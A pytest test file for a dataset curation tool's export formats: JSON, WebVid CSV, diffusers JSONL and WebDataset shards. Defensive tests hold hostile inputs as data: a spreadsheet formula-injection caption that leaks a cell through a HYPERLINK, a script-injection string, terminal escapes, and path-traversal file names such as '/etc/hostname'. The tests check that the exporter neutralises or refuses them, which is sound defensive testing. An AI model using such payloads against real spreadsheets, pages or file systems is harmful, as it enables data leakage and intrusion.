"""Exports hold exactly the accepted, captioned, cut rows, survive any caption, and never appear by halves."""

import csv
import json
import tarfile
import tempfile
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import yaml
from export_rows import row, write_table
from hypothesis import example, given, settings
from hypothesis import strategies as st

from core.errors import UserError
from core.json_text import json_lines, to_json
from core.sanitize import from_safe_cell
from curation import export as exporting
from curation.export import export
from curation.export.how import ExportSettings

MIXED = [
    row(0),
    row(1, status="rejected"),
    row(2, caption=None),
    row(3, clip_path=None),
    row(4, type="image", caption="ein Bild \u2014 \u65e5\u672c"),
    row(5, status="failed", caption=None, clip_path=None),
    row(6),
]


def test_internal_holds_the_complete_rows_in_table_order(tmp_path):
    write_table(tmp_path, MIXED, parts=3)
    result = export(tmp_path, "internal")
    assert result.paths == (tmp_path / "json_of_internal_datasets.json",)
    assert (result.rows, result.without_file, result.without_caption) == (3, 1, 1)
    text = result.paths[0].read_text(encoding="utf-8")
    records = json.loads(text)
    assert [r["clip_id"] for r in records] == ["id-0000", "id-0004", "id-0006"]
    assert records[0] == {
        "file_path": "train/id-0000.mp4",
        "text": "caption 0",
        "type": "video",
        "width": 640,
        "height": 360,
        "fps": 24.0,
        "num_frames": 96,
        "clip_id": "id-0000",
    }
    assert records[1]["type"] == "image" and records[1]["fps"] is None
    assert "\u65e5\u672c" in text
    assert len(text.splitlines()) == 3 + 2


@pytest.mark.parametrize("format", ["internal", "webvid", "diffusers"])
def test_a_table_that_was_read_already_gives_the_same_bytes(tmp_path, format):
    rows = [row(0), row(1, status="rejected"), row(2, caption=None), row(3, clip_path=None), row(4, caption="<b>")]
    write_table(tmp_path, rows * 5000, parts=2)
    first = export(tmp_path, format)
    written = first.paths[0].read_bytes()
    table = pq.read_table(tmp_path / "clips")
    assert export(tmp_path, format, table=table) == first
    assert first.paths[0].read_bytes() == written and first.rows == 10_000


def test_absolute_paths(tmp_path):
    write_table(tmp_path, MIXED)
    records = json.loads(export(tmp_path, "internal", ExportSettings(absolute=True)).paths[0].read_text())
    assert records[0]["file_path"] == str(tmp_path.resolve() / "train/id-0000.mp4")
    with open(export(tmp_path, "webvid", ExportSettings(absolute=True)).paths[0], newline="") as file:
        assert next(csv.DictReader(file))["page_dir"] == str(tmp_path.resolve() / "train")
    for format in ("diffusers", "webdataset"):
        with pytest.raises(UserError, match="^absolute: .* leave it out"):
            export(tmp_path, format, ExportSettings(absolute=True))


def test_webvid_names_videos_and_counts_what_it_cannot_name(tmp_path):
    result = export(write_table(tmp_path, MIXED), "webvid")
    with open(result.paths[0], newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert rows == [
        {"videoid": "id-0000", "name": "caption 0", "page_dir": "train"},
        {"videoid": "id-0006", "name": "caption 6", "page_dir": "train"},
    ]
    assert (result.rows, result.not_videos) == (2, 1)


def test_diffusers_names_files_relative_to_its_folder(tmp_path):
    result = export(write_table(tmp_path, MIXED), "diffusers")
    lines = result.paths[0].read_text(encoding="utf-8").split("\n")
    assert json.loads(lines[0]) == {"file_name": "id-0000.mp4", "text": "caption 0"}
    assert json.loads(lines[1])["file_name"] == "id-0004.jpg"
    assert result.paths[0] == tmp_path / "train" / "metadata.jsonl" and lines[3:] == [""]


def members(path: Path) -> dict[str, bytes]:
    with tarfile.open(path) as shard:
        infos = shard.getmembers()
        assert all((m.mtime, m.uid, m.gid, m.uname, m.gname) == (0, 0, 0, "", "") for m in infos)
        return {m.name: shard.extractfile(m).read() for m in infos}


def test_webdataset_shards_hold_file_text_and_facts(tmp_path):
    write_table(tmp_path, MIXED, media=True)
    result = export(tmp_path, "webdataset")
    folder = tmp_path / "webdataset"
    assert result.paths == (folder / "shard-000000.tar", folder / "images-000000.tar") and result.rows == 3
    videos, images = map(members, result.paths)
    assert list(videos) == [f"id-000{i}.{suffix}" for i in (0, 6) for suffix in ("mp4", "txt", "json")]
    assert list(images) == ["id-0004.jpg", "id-0004.txt", "id-0004.json"]
    assert images["id-0004.jpg"] == (tmp_path / "train/id-0004.jpg").read_bytes()
    assert images["id-0004.txt"].decode() == MIXED[4]["caption"]
    assert json.loads(videos["id-0000.json"])["num_frames"] == 96
    first = [path.read_bytes() for path in result.paths]
    assert [path.read_bytes() for path in export(tmp_path, "webdataset").paths] == first


def test_webdataset_shards_hold_one_kind_however_the_kinds_take_turns(tmp_path):
    rows = [row(i, type="image" if i % 3 == 1 else "video") for i in range(20)]
    write_table(tmp_path, rows, media=True)
    paths = export(tmp_path, "webdataset", ExportSettings(shard_rows=4)).paths
    kinds = [{Path(name).suffix for name in members(path)} - {".txt", ".json"} for path in paths]
    assert kinds == [{".mp4"}] * 4 + [{".jpg"}] * 2
    assert sum(len(members(path)) // 3 for path in paths) == 20
    assert sorted(p.name for p in (tmp_path / "webdataset").glob("*.tar")) == sorted(p.name for p in paths)


def test_clips_copied_into_other_containers_have_shards_of_their_own(tmp_path):
    """With `cut.mode=copy` a clip of VP9 lies in WebM: to one reader it is as foreign as an image."""
    suffixes = ["mp4", "webm", "mkv", "mp4", "webm", "jpg"]
    rows = [
        row(i, clip_path=f"train/id-{i}.{s}", type="image" if s == "jpg" else "video") for i, s in enumerate(suffixes)
    ]
    write_table(tmp_path, rows, media=True)
    paths = export(tmp_path, "webdataset").paths
    assert [p.name[:-11] for p in paths] == ["shard", "images", "mkv", "webm"]
    assert [len(members(p)) // 3 for p in paths] == [2, 1, 1, 2]
    text = (tmp_path / "webdataset/README.md").read_text()
    assert [config["config_name"] for config in yaml.safe_load(text.split("---")[1])["configs"]] == [
        "video", "image", "mkv", "webm",
    ]  # fmt: skip


@pytest.mark.parametrize("format", ["internal", "webvid", "diffusers", "webdataset"])
@pytest.mark.parametrize(("kind", "count"), [("video", 2), ("image", 1)])
def test_an_export_of_one_kind_holds_that_alone(tmp_path, format, kind, count):
    write_table(tmp_path, MIXED, media=True)
    result = export(tmp_path, format, ExportSettings(kind=kind))
    assert result.rows + result.not_videos == count


@pytest.mark.parametrize(("limits", "sizes"), [({"shard_rows": 4}, [4, 4, 2]), ({"shard_bytes": 420}, [4, 3, 3])])
def test_webdataset_shards_keep_their_limits(tmp_path, limits, sizes):
    write_table(tmp_path, [row(i) for i in range(10)], media=True)
    paths = export(tmp_path, "webdataset", ExportSettings(**limits)).paths
    assert [len(members(path)) // 3 for path in paths] == sizes


def test_a_clip_larger_than_a_shard_has_its_own(tmp_path):
    write_table(tmp_path, [row(i) for i in range(3)], media=True)
    assert len(export(tmp_path, "webdataset", ExportSettings(shard_bytes=10)).paths) == 3


def test_fewer_shards_leave_none_of_the_former(tmp_path):
    write_table(tmp_path, [row(i) for i in range(6)], media=True)
    export(tmp_path, "webdataset", ExportSettings(shard_rows=2))
    export(tmp_path, "webdataset")
    assert [p.name for p in (tmp_path / "webdataset").iterdir()] == ["shard-000000.tar"]


def test_a_missing_clip_file_stops_the_shards_and_keeps_the_old_ones(tmp_path):
    write_table(tmp_path, [row(i) for i in range(4)], media=True)
    before = export(tmp_path, "webdataset").paths[0].read_bytes()
    (tmp_path / "train/id-0002.mp4").unlink()
    with pytest.raises(UserError, match=r"id-0002\.mp4.*curate"):
        export(tmp_path, "webdataset")
    assert (tmp_path / "webdataset/shard-000000.tar").read_bytes() == before
    assert not [p.name for p in tmp_path.iterdir() if p.name.startswith(".")]


@pytest.mark.parametrize("format", ["internal", "webvid", "diffusers", "webdataset"])
def test_no_table_is_a_users_error(tmp_path, format):
    for out in (tmp_path, tmp_path / "absent"):
        with pytest.raises(UserError, match="no table"):
            export(out, format)
    assert list(tmp_path.iterdir()) == []


def test_an_unknown_format_names_the_nearest(tmp_path):
    with pytest.raises(UserError, match="did you mean 'webvid'"):
        export(tmp_path, "webvids")


@pytest.mark.parametrize("format", ["internal", "webvid", "diffusers", "webdataset"])
def test_uncut_clips_are_refused_with_the_mend(tmp_path, format):
    write_table(tmp_path, [row(0, clip_path=None), row(1, clip_path=None), row(2, status="rejected")])
    with pytest.raises(UserError, match="none of its 2 accepted clips has a file.*cut: none.*table itself"):
        export(tmp_path, format)
    assert [p for p in tmp_path.rglob("*") if p.is_file()] == [tmp_path / "clips" / "part-00000.parquet"]


@pytest.mark.parametrize("rows", [[], [row(0, status="rejected")]])
def test_nothing_accepted_gives_an_empty_export(tmp_path, rows):
    write_table(tmp_path, rows)
    assert json.loads(export(tmp_path, "internal").paths[0].read_text()) == []
    assert export(tmp_path, "webvid").rows == export(tmp_path, "webdataset").rows == 0


@pytest.mark.parametrize("format", ["internal", "webvid", "diffusers"])
def test_an_exception_half_way_leaves_the_old_file(tmp_path, monkeypatch, format):
    write_table(tmp_path, [row(i) for i in range(20)])
    path = export(tmp_path, format).paths[0]
    before = path.read_bytes()

    def broken(table, out, tally, more, *, refuse):
        yield pa.RecordBatch.from_pylist([{name: row(0)[column] for name, column in exporting.RECORD.items()}])
        raise RuntimeError("disk on fire")

    monkeypatch.setattr(exporting, "complete_batches", broken)
    with pytest.raises(RuntimeError, match="disk on fire"):
        export(tmp_path, format)
    assert path.read_bytes() == before
    assert not [p for p in path.parent.iterdir() if p.name.startswith(".")]


VALUES = st.one_of(st.none(), st.text(st.characters(exclude_categories=["Cs"]), max_size=20))


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.tuples(VALUES, st.one_of(st.none(), st.floats(allow_nan=False, allow_infinity=False)), st.integers(0, 9))
    )
)
def test_lines_by_column_are_those_of_one_row_after_another(rows):
    rows = [dict(zip(("text", "fps", "width"), values, strict=True)) for values in rows]
    schema = pa.schema([("text", pa.string()), ("fps", pa.float64()), ("width", pa.int64())])
    batch = pa.RecordBatch.from_pylist(rows, schema=schema)
    assert json_lines(batch).to_pylist() == [to_json(row) for row in rows]


CAPTIONS = st.lists(st.text(st.characters(exclude_categories=["Cs"]), max_size=40), min_size=1, max_size=6)


@settings(max_examples=40, deadline=None)
@given(captions=CAPTIONS)
@example(
    captions=[
        '=HYPERLINK("x")',
        "+1",
        "-1",
        "@a",
        '"',
        '""',
        "a,b",
        "\r",
        "\n",
        "\r\n",
        "\x00",
        "\u2028",
        "'",
        "",
    ]
)
@example(captions=["\ufeffstart", "tab\t", " edge ", "\\", "\\n", "NA", "\x1b[0m", "\U0001f3a5"])
def test_every_caption_survives_every_format(captions):
    with tempfile.TemporaryDirectory() as name:
        out = write_table(Path(name), [row(i, caption=c) for i, c in enumerate(captions)], media=True)
        internal = json.loads(export(out, "internal").paths[0].read_bytes())
        assert [r["text"] for r in internal] == captions
        with open(export(out, "webvid").paths[0], newline="", encoding="utf-8") as file:
            cells = [r["name"] for r in csv.DictReader(file)]
        assert [from_safe_cell(cell) for cell in cells] == captions
        assert not [cell for cell in cells if cell[:1] in tuple("=+-@\t\r")]
        with open(export(out, "diffusers").paths[0], newline="\n", encoding="utf-8") as file:
            assert [json.loads(line)["text"] for line in file] == captions
        content = members(export(out, "webdataset").paths[0])
        assert [b.decode() for n, b in content.items() if n.endswith(".txt")] == captions


def test_a_formula_in_a_caption_does_not_run_in_a_spreadsheet(tmp_path):
    captions = ['=HYPERLINK("http://x?"&A1,"a dog")', "'=1+1", "-1 degree", "a dog = a friend", "'tis a dog"]
    write_table(tmp_path, [row(i, caption=caption) for i, caption in enumerate(captions)])
    with open(export(tmp_path, "webvid").paths[0], newline="", encoding="utf-8") as file:
        cells = [r["name"] for r in csv.DictReader(file)]
    assert cells == [f"'{captions[0]}", f"'{captions[1]}", f"'{captions[2]}", captions[3], captions[4]]


PAGES = ["</script><script>alert(1)</script>", "<!--", "a\u2028b\u2029c", "a\x85b", "\x9b2Jx\x7f", "</", "a < b"]


@pytest.mark.parametrize("format", ["internal", "diffusers", "webdataset"])
def test_json_is_harmless_in_a_page_and_on_a_terminal_and_one_line_stays_one(tmp_path, format):
    write_table(tmp_path, [row(i, caption=caption) for i, caption in enumerate(PAGES)], media=True)
    (path,) = export(tmp_path, format).paths
    if format == "webdataset":
        lines = [content.decode() for name, content in members(path).items() if name.endswith(".json")]
    else:
        lines = [line.rstrip(",") for line in path.read_text(encoding="utf-8").split("\n") if line.startswith("{")]
    assert [json.loads(line)["text"] for line in lines] == PAGES
    assert all("<" not in line and line.isprintable() and line.splitlines() == [line] for line in lines)


@pytest.mark.parametrize("clip_path", ["/etc/hostname", "train/../../secret.mp4", "../secret.mp4", "train/\0.mp4"])
@pytest.mark.parametrize("format", ["internal", "webvid", "diffusers", "webdataset"])
def test_a_table_that_names_files_outside_the_output_is_refused(tmp_path, format, clip_path):
    """It need not be ours: whoever is handed an output may export it."""
    out = write_table(tmp_path / "out", [row(0, clip_path="train/a.mp4"), row(1, clip_path=None)], media=True)
    (tmp_path / "secret.mp4").write_bytes(b"secret")
    write_table(out, [row(0, clip_path=clip_path)])
    with pytest.raises(
        UserError, match="its table names a file outside it: '.*'; was it written by this program"
    ) as error:
        export(out, format)
    assert str(error.value).isprintable()


@pytest.mark.parametrize("clip_id", ["../../x", "/x", "a/b", "..", "", "a.b", "a\nb", "x" * 300])
def test_the_members_of_a_shard_stay_in_the_folder_where_it_is_unpacked(tmp_path, clip_id):
    write_table(tmp_path, [row(0, clip_id=clip_id, clip_path="train/a.mp4")], media=True)
    with pytest.raises(UserError, match="cannot name a file of a shard") as error:
        export(tmp_path, "webdataset")
    assert str(error.value).isprintable() and not (tmp_path / "webdataset").exists()
